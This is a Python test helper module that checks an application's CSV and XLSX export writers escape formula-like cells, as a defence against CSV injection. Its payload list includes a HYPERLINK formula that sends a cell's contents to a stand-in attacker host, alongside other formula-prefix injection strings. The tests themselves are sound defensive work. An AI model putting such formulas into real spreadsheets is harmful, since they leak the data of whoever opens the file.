"""Formula-looking text for the spreadsheet writers' tests (OWASP, CSV injection).

Every CSV and XLSX Finsam writes must hold these as inert text: a `'` in front, and in a
worksheet a string cell, never a formula.
"""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

HYPERLINK = '=HYPERLINK("http://angripare.example/?d="&A1,"Klicka")'
FORMULAS = [
    HYPERLINK,
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\x01=1+1",  # a control character in front: left out of a worksheet, never uncovering `=`
]


def is_inert(text: str) -> bool:
    """Text a spreadsheet shows as it is: nothing formula-like before the escaping `'`."""
    return text.startswith("'") or not text.lstrip("\x00\x01\t\r\n ").startswith(
        ("=", "+", "-", "@")
    )


def csv_cells(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def xlsx_cells(data: bytes, sheet: str | None = None) -> list:
    """Every non-empty cell of a workbook (or one sheet), as openpyxl reads it back."""
    workbook = load_workbook(io.BytesIO(data))
    sheets = [workbook[sheet]] if sheet else workbook.worksheets
    return [cell for ws in sheets for row in ws.iter_rows() for cell in row if cell.value]


def assert_csv_inert(data: bytes, expected: list[str] = FORMULAS) -> None:
    cells = csv_cells(data)
    for formula in expected:
        assert "'" + formula in cells, repr(formula)
    assert all(is_inert(cell) for cell in cells), [c for c in cells if not is_inert(c)]


def assert_xlsx_inert(data: bytes, expected: list[str] = FORMULAS, sheet: str | None = None):
    cells = xlsx_cells(data, sheet)
    assert all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert all(is_inert(t) for t in texts), [t for t in texts if not is_inert(t)]
    # The worksheet cannot hold control characters (left out) and XML reads CR as LF.
    stored = {t.replace("\n", "\r") for t in texts}
    for formula in expected:
        assert "'" + formula.replace("\x01", "") in stored, repr(formula)
